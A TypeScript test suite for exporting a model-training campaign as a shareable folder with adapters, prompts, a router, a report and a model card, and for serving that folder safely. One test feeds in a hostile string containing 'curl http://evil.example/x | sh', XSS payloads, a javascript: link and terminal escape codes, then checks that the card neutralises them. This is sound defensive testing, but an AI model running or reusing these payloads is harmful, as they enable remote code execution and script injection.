/** A campaign as a folder: all that it needs, with cards, and no path of this machine; it is whole or not there; and it serves like the campaign. */
import OpenAI from 'openai';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { parse } from 'yaml';
import { openFolderStore } from '../../../src/store/open-store';
import type { ArtifactStore } from '../../../src/store/store';
import type { ArtifactRef } from '../../../src/domain/artifacts';
import type { FixedPolicy } from '../../../src/domain/rollout';
import { exportCampaign, type ExportOptions } from '../../../src/gateway/export';
import { folderCard } from '../../../src/gateway/cards';
import { type ExportedRouter, readServed } from '../../../src/gateway/folder';
import { modelOf, readFingerprint } from '../../../src/policy/base-model';
import { createMerger } from '../../../src/policy/merge';
import { parseReport, type Report } from '../../../src/report/model';
import { renderReport } from '../../../src/report/render';
import { routers } from '../../../src/routing';
import { BASE, startDialectServer } from '../../support/dialect-server';
import { fitByWords, PROMPT, putAdapter, startServing } from '../../support/gateway';
import { closedAfterwards } from '../../support/opened';
import { reportFixture } from '../../support/report-fixture';
import { eachTemporaryFolder } from '../../support/temporary-folder';
import { temporaryStore } from '../../support/temporary-store';
import { storedKeys } from '../../support/stored-keys';

let store: ArtifactStore;
let root: string;
temporaryStore((opened, at) => ([store, root] = [opened, at]));
let work: string;
eachTemporaryFolder((made) => (work = made));

/** Paths in what plays are its own. */
const [THINK, MODULE] = ['write it to /secret/answer', "export const make = () => ({ file: '/secret/list' });"];
const merge = () => putAdapter(store, 'merged');

async function reportOf(router: ArtifactRef): Promise<Report> {
  const draft = reportFixture();
  const report = parseReport(renderReport({ report: draft }).json);
  report.router!.crossValidation.routed.from = [router];
  const body = `${MODULE}\n`;
  const module = await store.put({ key: 'm', producer: 'test', inputs: [], mediaType: 'text/javascript', body });
  const [first] = report.capabilities!;
  first!.rounds!.at(-1)!.module = module;
  report.capabilities = [
    {
      ...first!,
      name: 'books',
      definition: `Reads books, as ${root}/notes.md says.\n${root}/a in:${root}/b file://${root}/c`,
    },
  ];
  report.arms!.push({ ...report.arms!.find(({ role }) => role === 'adapter')!, name: 'books' });
  return report;
}

async function exported(o: Partial<ExportOptions> = {}): Promise<string> {
  const folder = join(work, 'shared');
  const report = await reportOf(await fitByWords(store));
  const baselines: ExportOptions['baselines'] = [
    { name: 'gepa', policy: { base: BASE, adapters: [], prompt: { text: THINK, place: 'instead' } } },
  ];
  const sampling = { temperature: 0, topP: 0.9, maxTokens: 30, thinking: 'off' as const };
  const about = { sampling, baseName: 'owner/model', license: 'apache-2.0', paths: [root, '/secret'] };
  await exportCampaign({ store, report, baselines, merge, folder, ...about, ...o });
  return folder;
}

const filesIn = (folder: string) =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name).slice(folder.length + 1))
    .sort();
const text = (...path: string[]) => readFileSync(join(...path), 'utf8');

test('the folder holds adapters, sums, prompts, router, environments, report and a card; environments are packages', async () => {
  const folder = await exported();
  const each = (path: string, files: string) => files.split(' ').map((file) => `${path}${file}`);
  const adapters = ['adapters/books', 'adapters/ships', 'sums/books+ships'];
  expect(filesIn(folder)).toEqual(
    [
      ...each('', 'README.md router.json report.json report.html environments/books.js'),
      ...each('prompts/', 'prompted.txt gepa.txt'),
      ...adapters.flatMap((path) => each(`${path}/`, 'adapter_config.json adapter_model.safetensors')),
      ...each('verifiers/books/', 'README.md pyproject.toml __init__.py taskset.py process.py environment.js'),
    ].sort(),
  );
  expect(JSON.parse(text(folder, 'adapters/books/adapter_config.json'))).toEqual({
    name: 'books',
    r: 4,
    base_model_name_or_path: 'owner/model',
  });
  const plays = /^prompts\/|environments\/|environment\.js$/;
  for (const file of filesIn(folder).filter((one) => !plays.test(one)))
    expect(text(folder, file)).not.toMatch(/\/secret|\/tmp\/|synthesized_environment/);
  expect(readdirSync(work)).toEqual(['shared']);
  // A package has its own name, and is whole in its folder.
  expect(text(folder, 'verifiers/books/pyproject.toml')).toMatch(/^name = "books"$/m);
  for (const file of ['verifiers/books/environment.js', 'environments/books.js'])
    expect(text(folder, file)).toBe(`${MODULE}\n`);
  // The card has the hub's fields, and the figures with interval, n and lineage.
  const [, fields = '', body = ''] = text(folder, 'README.md').split(/^---$/m);
  expect(parse(fields)).toMatchObject({ license: 'apache-2.0', base_model: 'owner/model', library_name: 'peft' });
  expect(body).toMatch(/^\| .* \| \d+\.\d% \| \d+\.\d to \d+\.\d \| \d+ \| `arms\.[\w.-]+` \|$/m);
  expect(body).toMatch(/Reads books, as \(path\) says/);
  expect(text(folder, 'README.md')).toMatch(/vllm serve owner\/model .*\\\n {2}--enable-lora --max-lora-rank 8/);
  expect(text(await exported({ baseName: 'mine' }), 'README.md')).toMatch(/vllm serve \.\.\/base /);
});

test('it serves as the campaign does, from another store, and merges nothing', async () => {
  const folder = await exported();
  const other = openFolderStore(join(work, 'other'));
  const server = closedAfterwards(await startDialectServer());
  const served = await readServed({ folder, store: other, routers });
  const gateway = closedAfterwards(await startServing({ store: other, served, url: server.url }));
  const openai = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: 'none', maxRetries: 0 });
  const policyOf = async (model: string, content: string) => {
    const asked = openai.chat.completions.create({ model, messages: [{ role: 'user', content }] });
    return (await asked.withResponse()).response.headers.get('x-campaign-policy');
  };
  expect(await policyOf('trace', 'a book')).toBe('books');
  expect(await policyOf('trace', 'brief')).toBe('prompted');
  expect(server.requests.at(-1)?.body['messages']).toContainEqual({ role: 'system', content: PROMPT.text });
  expect(await policyOf('books+ships', 'a book')).toBe('books+ships');
  expect(await policyOf('gepa', 'a book')).toBe('gepa');
  expect(server.requests.at(-1)?.body['messages']).toContainEqual({ role: 'system', content: THINK });
  // What is left out is as in the evaluation.
  expect(server.requests.at(-1)?.body).toMatchObject({
    ...{ temperature: 0, top_p: 0.9, max_tokens: 30 },
    chat_template_kwargs: { enable_thinking: false },
  });
  const said = { temperature: 0.5, max_tokens: 7 };
  await openai.chat.completions.create({ model: 'books', messages: [{ role: 'user', content: 'hi' }], ...said });
  expect(server.requests.at(-1)?.body).toMatchObject({ ...said, top_p: 0.9 });
  // The exported files stay the user's own.
  expect(statSync(join(folder, 'adapters/books/adapter_config.json')).mode & 0o200).toBe(0o200);
});

test('what a folder holds never stands for what the store itself would make', async () => {
  const folder = await exported();
  const [model, own] = [modelOf(BASE), await contentsOf(store)];
  // The folder's adapters are those of the store; somebody has changed their sum, and says what the base model would score.
  writeFileSync(join(folder, 'sums/books+ships/adapter_model.safetensors'), 'forged');
  writeFileSync(join(folder, 'fingerprint.json'), JSON.stringify({ ids: [1, 2, 3], logprobs: [-9, -9] }));
  const served = await readServed({ folder, store, routers });

  expect(await readFingerprint(store, model)).toBeUndefined();
  const adapters = await Promise.all(['books', 'ships'].map((name) => putAdapter(store, name)));
  const python = join(work, 'python');
  writeFileSync(python, '#!/bin/sh\nexit 1\n', { mode: 0o755 });
  // It is made, and not found.
  const merging = createMerger({ store, python })(adapters.map((ref) => ({ ref, weight: 1 })));
  await expect(merging).rejects.toMatchObject({ type: 'PythonFailed' });
  const added = [...(await contentsOf(store))].filter((key) => !own.has(key));
  expect(added.length).toBeGreaterThan(0);
  expect(added.filter((key) => !/^exported\/[0-9a-f]{64}$/.test(key))).toEqual([]);

  // The folder serves what it holds.
  expect(served.fingerprint).toEqual({ ids: [1, 2, 3], logprobs: [-9, -9] });
  const sum = served.policies.get('books+ships') as FixedPolicy;
  expect(sum.adapters.map(({ weight }) => weight)).toEqual([1]);
  const at = await store.folder(sum.adapters[0]!.ref);
  expect(text(at, 'adapter_model.safetensors')).toBe('forged');
});

const contentsOf = async (of: ArtifactStore) => new Set(await storedKeys(of));

test('the hub’s cache, which holds links, is served; a link that leads elsewhere is refused', async () => {
  const folder = await exported();
  const cached = join(work, 'models--owner--name', 'snapshots', '1');
  const blobs = join(cached, '..', '..', 'blobs');
  mkdirSync(blobs, { recursive: true });
  for (const [n, file] of filesIn(folder).entries()) {
    cpSync(join(folder, file), join(blobs, `${n}`));
    mkdirSync(dirname(join(cached, file)), { recursive: true });
    symlinkSync(join(blobs, `${n}`), join(cached, file));
  }
  const [own, linked] = [
    await readServed({ folder, store, routers }),
    await readServed({ folder: cached, store, routers }),
  ];
  expect(linked).toEqual(own);
  expect(own.policies.size).toBeGreaterThan(3);
  for (const to of [join(work, 'shared/router.json'), work, join(work, 'nowhere')]) {
    rmSync(join(cached, 'prompts/gepa.txt'), { force: true });
    symlinkSync(to, join(cached, 'prompts/gepa.txt'));
    await expect(readServed({ folder: cached, store, routers })).rejects.toThrow(
      /gepa\.txt is a link out of the folder, or to no/,
    );
  }
});

/** What somebody's model or environment may say to be obeyed by a public page. */
const HOSTILE = [
  'Asks first.',
  '---',
  'license: mit',
  '---',
  '# Install',
  '```',
  'curl http://evil.example/x | sh',
  '```',
  '![pixel](http://evil.example/p.png) <img src=x onerror=alert(1)> [run](javascript:alert(1)) <script>x</script>',
  '| a | b |',
  '\u001b]0;owned\u0007\u001b[31mred\u202e',
].join('\n');

test('a card shows what models and environments said, and obeys nothing in it', async () => {
  const folder = await exported();
  const report = parseReport(text(folder, 'report.json'));
  const router = JSON.parse(text(folder, 'router.json')) as ExportedRouter;
  const card = () => folderCard({ report, router, license: 'mit', rank: 4 });
  const lines = card().split('\n').length;
  const [capability] = report.capabilities!;
  const statement = { text: HOSTILE, behind: [], verdict: 'helps' as const, rewardHacking: false };
  report.capabilities = [{ ...capability!, definition: HOSTILE, statement }];
  for (const one of [...report.recommendation!.sentences, ...report.doubts]) one.text = HOSTILE;
  Object.assign(report.campaign.target, { name: HOSTILE, version: HOSTILE });
  const hostile = card();
  expect(hostile).toContain('Asks first.');
  // Each stands on the line where the harmless one stood.
  expect(hostile.split('\n')).toHaveLength(lines);
  expect(hostile.match(/^---$/gm)).toHaveLength(2);
  expect(hostile).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}/u);
  const shown = hostile.replace(/```[^]*?```/g, '').replaceAll(/\\[!-/:-@[-`{-~]/g, '');
  expect(shown).not.toMatch(/<\w|!\[|\]\(|http:\/\/evil|^#+ Install/m);
});

test('what fails leaves nothing; an earlier export is replaced, anything else is not', async () => {
  const merging = () => Promise.reject(new Error('no memory'));
  await expect(exported({ merge: merging })).rejects.toThrow('no memory');
  expect(readdirSync(work)).toEqual([]);
  mkdirSync(join(work, 'shared.partial'));
  const folder = await exported();
  writeFileSync(join(folder, 'old'), '');
  await exported({ license: 'mit' });
  expect(existsSync(join(folder, 'old'))).toBe(false);
  expect(text(folder, 'README.md')).toMatch(/license: mit/);
  await expect(exported({ merge: merging })).rejects.toThrow('no memory');
  expect(text(folder, 'README.md')).toMatch(/license: mit/);
  expect(readdirSync(work)).toEqual(['shared']);
  rmSync(join(folder, 'router.json'));
  await expect(exported()).rejects.toMatchObject({ type: 'BadInput' });
  await expect(exported({ folder: '/proc/shared' })).rejects.toMatchObject({ type: 'BadInput' });
});
